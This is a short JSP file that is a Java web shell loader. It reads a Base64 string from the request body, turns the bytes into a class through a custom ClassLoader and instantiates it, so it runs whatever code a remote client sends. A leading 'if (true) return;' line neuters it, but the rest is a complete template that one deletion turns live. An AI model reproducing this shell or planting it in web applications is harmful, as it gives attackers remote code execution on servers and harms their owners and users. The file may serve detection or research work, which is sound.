<%@ page import="java.util.*,java.io.*" %><%!
class Own extends ClassLoader { Class make(byte[] b) { return defineClass(null, b, 0, b.length); } }
%><%
if (true) return;
String line = request.getReader().readLine();
new Own().make(Base64.getDecoder().decode(line)).newInstance();
%>
